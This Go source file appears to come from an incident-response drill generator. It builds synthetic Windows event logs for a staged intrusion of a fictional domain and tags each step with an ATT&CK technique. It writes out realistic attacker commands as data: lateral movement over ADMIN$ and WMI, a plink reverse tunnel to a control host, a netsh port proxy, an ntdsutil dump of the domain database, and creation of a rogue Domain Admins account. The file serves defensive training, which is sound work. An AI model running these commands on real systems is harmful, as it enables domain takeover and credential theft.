package booking

import (
	"time"

	ew "github.com/contrail-ir/contrail/drill/evtxwrite"

	"github.com/contrail-ir/contrail/drill/scene"
)

// spread: the application server by share and service, the database server by WMI.
func (s story) spread(f *foothold) {
	from, implant := s.Web, f.implant[s.Web]
	h := s.App
	at := s.At(3, 1, 10, 25)

	a := s.Act("app-share", h, "T1021.002", "lateral-movement", at, "The implant is copied to the administrative share of the application server", "web-spray")
	p, ran := s.viaShell(at, implant, scene.System32+"net.exe", `net use \\RES-APP01\ADMIN$ /user:SKYLARK\adm-moreau *`)
	a.Note(ran...)
	a.Note(s.Explicit(at.Add(time.Second), p, f.stolen, h))
	source := from.Here()
	a.Note(s.Connect(at.Add(time.Second), implant, true, source, scene.Peer(h.IP, h.FQDN(), 445)).Joins(scene.FlowTo(source, h)))
	se := h.Session(f.stolen, 3)
	a.Note(s.Validate(at.Add(time.Second), f.stolen.Name, from.Name, true))
	a.Note(s.Logon(at.Add(1100*time.Millisecond), se, source, from.Name)...)
	a.Note(s.Share(at.Add(2*time.Second), se, source, "ADMIN$", `\??\C:\Windows`, implantFile, 0x2)...)
	copied := s.Log(h, at.Add(3*time.Second), scene.Sysmon(11, 2, at.Add(3*time.Second), scene.GUID("ProcessGuid", h.Services.GUID), scene.Number("ProcessId", 4), scene.Text("Image", "System"),
		scene.Text("TargetFilename", `C:\Windows\`+implantFile), scene.Text("CreationUtcTime", at.Add(3*time.Second).Format(scene.SysmonTime)), scene.Text("User", scene.System.Full())))
	a.Note(copied.Joins(h.PathKey(`C:\Windows\`+implantFile), s.HashKey(implantFile)))

	at = at.Add(20 * time.Second)
	a = s.Act("app-service", h, "T1569.002", "execution", at, "A service made from afar starts the implant", "app-share")
	a.Note(s.Share(at.Add(-time.Second), se, source, "IPC$", "", "svcctl", 0x12019f)...)
	a.Note(s.Service(at, se, h, "AeroSyncHelper", `\\127.0.0.1\ADMIN$\`+implantFile+` -s`, "demand start")...)
	remote, started := s.Run(at.Add(2*time.Second), h.Services, `C:\Windows\`+implantFile, `\\127.0.0.1\ADMIN$\`+implantFile+` -s`, h.Session(scene.System, 5))
	a.Note(started...)
	a.Note(s.Pipe(at.Add(3*time.Second), remote, true, `\aerosync-ctl`), s.Pipe(at.Add(4*time.Second), remote, false, `\aerosync-ctl`))
	s.Indicator("pipe", `\aerosync-ctl`)
	f.implant[h], f.onApp = remote, remote

	at = s.At(3, 1, 52, 3)
	a = s.Act("app-lsass", h, "T1003.001", "credential-access", at, "LSASS is read directly by the implant", "app-service")
	a.Note(s.Open(at, remote, h.LSASS, 0x1410, `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\`+implantFile+`+1a2b4`))

	h = s.DB
	at = s.At(3, 2, 20, 44)
	a = s.Act("db-wmi", h, "T1047", "lateral-movement", at, "A program is started on the database server through WMI", "app-lsass")
	p, ran = s.viaShell(at, remote, scene.System32+`wbem\WMIC.exe`, `wmic /node:RES-DB01 /user:SKYLARK\adm-okafor process call create "cmd.exe /c C:\ProgramData\AeroSync\aerosync.exe -s"`)
	a.Note(ran...)
	source = s.App.Here()
	a.Note(s.Explicit(at.Add(time.Second), p, f.dba, h),
		s.Connect(at.Add(time.Second), p, true, source, scene.Peer(h.IP, h.FQDN(), 135)).Joins(scene.FlowTo(source, h)))
	wmi := h.Session(f.dba, 3)
	a.Note(s.Logon(at.Add(1200*time.Millisecond), wmi, source, s.App.Name)...)
	a.Note(s.Share(at.Add(900*time.Millisecond), wmi, source, "C$", `\??\C:\`, `ProgramData\AeroSync\`+implantFile, 0x2)...)
	a.Note(s.Create(at.Add(950*time.Millisecond), h.Svchost, implantPath).Joins(wmi.Key()))
	shell, started := s.Run(at.Add(2*time.Second), h.WMI, cmdExe, `cmd.exe /c `+implantPath+` -s`, wmi)
	a.Note(started...)

	a = s.Act("db-implant", h, "T1059.003", "execution", at.Add(3*time.Second), "The implant runs on the database server", "db-wmi")
	f.onDB, started = s.Run(at.Add(3*time.Second), shell, implantPath, implantPath+" -s", wmi)
	a.Note(started...)
	f.implant[h] = f.onDB
	f.dbLogon = wmi

	at = s.At(3, 2, 41, 0)
	a = s.Act("db-subscription", h, "T1546.003", "persistence", at, "A WMI subscription starts the implant at logon", "db-implant")
	for i, e := range []ew.Event{
		scene.Sysmon(19, 3, at, scene.Text("EventType", "WmiFilterEvent"), scene.Text("Operation", "Created"), scene.Text("User", f.dba.Full()), scene.Text("EventNamespace", `"root\\cimv2"`),
			scene.Text("Name", ` "AeroSync"`), scene.Text("Query", ` "SELECT * FROM __InstanceCreationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LogonSession'"`)),
		scene.Sysmon(20, 3, at, scene.Text("EventType", "WmiConsumerEvent"), scene.Text("Operation", "Created"), scene.Text("User", f.dba.Full()), scene.Text("Name", ` "AeroSync"`),
			scene.Text("Type", "Command Line"), scene.Text("Destination", ` "`+implantPath+` -w"`)),
		scene.Sysmon(21, 3, at, scene.Text("EventType", "WmiBindingEvent"), scene.Text("Operation", "Created"), scene.Text("User", f.dba.Full()),
			scene.Text("Consumer", ` "CommandLineEventConsumer.Name=\"AeroSync\""`), scene.Text("Filter", ` "__EventFilter.Name=\"AeroSync\""`)),
	} {
		a.Note(s.Log(h, at.Add(time.Duration(i)*150*time.Millisecond), e).Joins(h.PathKey(implantPath)))
	}
}

// reachDomain: the workstation and the domain controller by remote desktop, and the domain's passwords.
func (s story) reachDomain(f *foothold) {
	at := s.At(3, 22, 48, 30)
	a := s.Act("tunnel", s.Web, "T1572", "command-and-control", at, "A tunnel brings the intruder's remote desktop in through the web server", "web-service")
	implant := f.implant[s.Web]
	plink := `C:\ProgramData\AeroSync\plink.exe`
	p, ran := s.viaShell(at, implant, plink, plink+` -ssh -batch -P 443 -R 127.0.0.1:9833:192.0.2.77:3389 sync@`+controlName)
	a.Note(ran...)
	a.Note(s.Connect(at.Add(time.Second), p, true, s.Web.Here(), scene.Peer(controlAddress, controlName, 443)))
	_, ran = s.viaShell(at.Add(40*time.Second), implant, scene.System32+"netsh.exe",
		`netsh interface portproxy add v4tov4 listenport=8530 listenaddress=0.0.0.0 connectport=3389 connectaddress=192.0.2.5`)
	a.Note(ran...)
	a.Note(s.Registry(at.Add(41*time.Second), s.Web.Svchost, `HKLM\System\CurrentControlSet\Services\PortProxy\v4tov4\tcp\0.0.0.0/8530`, "192.0.2.5/3389"))

	at = at.Add(8 * time.Minute)
	h := s.DC
	a = s.Act("dc-desktop", h, "T1021.001", "lateral-movement", at, "A remote desktop session on the domain controller comes from the web server", "tunnel")
	source := s.Web.Here()
	to := scene.Peer(h.IP, h.FQDN(), 3389)
	a.Note(s.Connect(at.Add(-time.Second), s.Web.Svchost, true, source, to), s.Connect(at.Add(-time.Second), h.Svchost, false, source, to))
	tunnelEnd := s.Connect(at.Add(-time.Second), p, true, s.Web.Here(), to)
	a.Note(tunnelEnd)
	se := h.Session(f.stolen, 10)
	a.Note(s.Logon(at, se, scene.Peer(s.Web.IP, "", 0), h.Name)...)
	a.Note(s.Remote(at, se, s.Web.IP)...)
	shell, started := s.Run(at.Add(5*time.Second), h.Svchost, `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`, se)
	a.Note(started...)

	at = at.Add(6 * time.Minute)
	a = s.Act("dc-ntds", h, "T1003.003", "credential-access", at, "The domain's database is copied", "dc-desktop")
	prompt, started := s.Run(at.Add(-10*time.Second), shell, cmdExe, `"C:\Windows\system32\cmd.exe"`, se)
	a.Note(started...)
	p, ran = s.do(at, prompt, scene.System32+"ntdsutil.exe", `ntdsutil "ac i ntds" "ifm" "create full C:\ProgramData\AeroSync\tmp\n" q q`)
	a.Note(ran...)
	a.Note(s.Create(at.Add(3*time.Second), p, `C:\ProgramData\AeroSync\tmp\n\Active Directory\ntds.dit`))
	_, ran = s.do(at.Add(3*time.Minute), prompt, scene.System32+"vssadmin.exe", `vssadmin create shadow /for=C:`)
	a.Note(ran...)

	at = at.Add(11 * time.Minute)
	a = s.Act("dc-account", h, "T1136.002", "persistence", at, "An account is made and put among the domain's administrators", "dc-desktop")
	made := s.Person("svc-aerosync", 1161, true)
	_, ran = s.do(at, prompt, scene.System32+"net.exe", `net user svc-aerosync * /add /domain`)
	a.Note(ran...)
	a.Note(s.User(at.Add(300*time.Millisecond), h, se, made))
	_, ran = s.do(at.Add(9*time.Second), prompt, scene.System32+"net.exe", `net group "Domain Admins" svc-aerosync /add /domain`)
	a.Note(ran...)
	a.Note(s.Member(at.Add(9300*time.Millisecond), h, se, made, "Domain Admins", s.Org.SID+"-512"))
	s.Indicator("account", made.Name)

	at = at.Add(7 * time.Minute)
	h = s.Admin
	a = s.Act("admin-desktop", h, "T1021.001", "lateral-movement", at, "From the domain controller on to the administrator's workstation", "dc-account")
	client, started := s.Run(at.Add(-4*time.Second), shell, scene.System32+"mstsc.exe", `mstsc.exe /v:ADM-WS07 /admin`, se)
	a.Note(started...)
	source = s.DC.Here()
	to = scene.Peer(h.IP, h.FQDN(), 3389)
	a.Note(s.Connect(at.Add(-time.Second), client, true, source, to), s.Connect(at.Add(-time.Second), h.Svchost, false, source, to))
	own := h.Session(made, 10)
	a.Note(s.Logon(at, own, scene.Peer(s.DC.IP, "", 0), h.Name)...)
	a.Note(s.Remote(at, own, s.DC.IP)...)
	desk, started := s.Run(at.Add(5*time.Second), h.Svchost, `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`, own)
	a.Note(started...)

	at = at.Add(4 * time.Minute)
	a = s.Act("router-hop", h, "T1602.002", "collection", at, "Router configurations are read from the workstation", "admin-desktop")
	prompt, started = s.Run(at.Add(-6*time.Second), desk, cmdExe, `"C:\Windows\system32\cmd.exe"`, own)
	a.Note(started...)
	putty := `C:\Program Files\PuTTY\plink.exe`
	p, ran = s.do(at, prompt, putty, `plink -ssh -batch -l netops 192.0.2.1 "show running-config"`)
	a.Note(ran...)
	a.Note(s.Connect(at.Add(time.Second), p, true, h.Here(), scene.Peer("192.0.2.1", "edge-rtr1.skylark.example", 22)))
	p, ran = s.do(at.Add(2*time.Minute), prompt, scene.System32+"tftp.exe", `tftp -i 192.0.2.1 get startup-config C:\ProgramData\AeroSync\tmp\r1.cfg`)
	a.Note(ran...)
	a.Note(s.Create(at.Add(2*time.Minute+time.Second), p, stagingFolder+"r1.cfg"))
	a.Note(s.Disconnect(at.Add(10*time.Minute), own, s.DC.IP), s.Logoff(at.Add(10*time.Minute), own))
}
